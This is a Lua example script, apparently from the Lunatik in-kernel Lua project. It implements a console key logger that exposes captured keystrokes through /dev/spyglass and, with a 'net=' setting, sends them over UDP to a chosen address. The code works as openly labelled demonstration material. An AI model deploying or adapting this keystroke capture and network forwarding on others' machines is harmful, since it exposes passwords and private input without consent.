-- SPDX-License-Identifier: GPL-2.0 OR MIT
--
-- /lib/modules/lua/examples/spyglass.lua: a key logger. /dev/spyglass
-- reads the keys typed on the console: a printable character as itself,
-- another as the mnemonic of its ASCII code (<del> for 127). Writing
-- "enable=false" or "enable=true" to it stops or resumes the logging;
-- "net=<address>:<port>" also sends each new read over UDP there, which
-- needs the "socket.inet" module.
--
-- usage: $ sudo lunatik run examples/spyglass
--        $ sudo tail -f /dev/spyglass
--        $ sudo sh -c "echo 'enable=false' > /dev/spyglass"

local device = require("device")
local linux = require("linux")
local notifier = require("notifier")

local kbd = notifier.kbd

-- the ASCII control codes, by code
local mnemonics = {
	[0] = "nul", "soh", "stx", "etx", "eot", "enq", "ack", "bel",
	"bs", "ht", "lf", "vt", "ff", "cr", "so", "si",
	"dle", "dc1", "dc2", "dc3", "dc4", "nak", "syn", "etb",
	"can", "em", "sub", "esc", "fs", "gs", "rs", "us",
	[127] = "del",
}

-- keysym types of <linux/keyboard.h> whose value is a Latin-1 character
local KT_LATIN, KT_LETTER = 0, 11

local LOG_MAX = 4096	-- bytes kept; older ones are dropped
local log = ""
local dropped = 0	-- bytes dropped from the log's start so far
local enabled = true
local udp, host, port

local function record(s)
	log = log .. s
	if #log > LOG_MAX then
		dropped = dropped + #log - LOG_MAX
		log = log:sub(-LOG_MAX)
	end
end

local function keyboard(event, down, shift, key)
	if not enabled or event ~= kbd.KEYSYM or not down then
		return
	end
	local ktype, code = (key >> 8) & 0x0f, key & 0xff
	if ktype ~= KT_LATIN and ktype ~= KT_LETTER then
		return
	end
	if code >= 32 and code < 127 then
		record(string.char(code))
	elseif mnemonics[code] then
		record("<" .. mnemonics[code] .. ">")
	end
end

local s = linux.stat
local function nop() end -- an operation the driver does not define fails
local driver = {name = "spyglass", open = nop, release = nop, mode = s.IRUSR | s.IWUSR}

-- read(2): what was logged past offset
function driver:read(length, offset)
	local first = math.max(offset - dropped, 0)
	local s = log:sub(first + 1, first + length)
	if udp and #s > 0 then
		udp:send(s, host, port)
	end
	return s, dropped + first + #s
end

local settings = {}

function settings.enable(value)
	assert(value == "true" or value == "false", "enable=true or enable=false")
	enabled = value == "true"
end

function settings.net(value)
	local addr, p = value:match("^(%d+%.%d+%.%d+%.%d+):(%d+)$")
	assert(addr, "net=<address>:<port>")
	local ok, inet = pcall(require, "socket.inet")
	assert(ok, "net= needs the socket.inet module")
	udp, host, port = inet.udp(), addr, tonumber(p)
end

-- write(2): "setting=value"
function driver:write(data)
	local setting, value = data:match("^(%w+)=(%S+)")
	assert(settings[setting], "enable=<true|false> or net=<address>:<port>")
	settings[setting](value)
end

notifier.keyboard(keyboard)
device.new(driver)
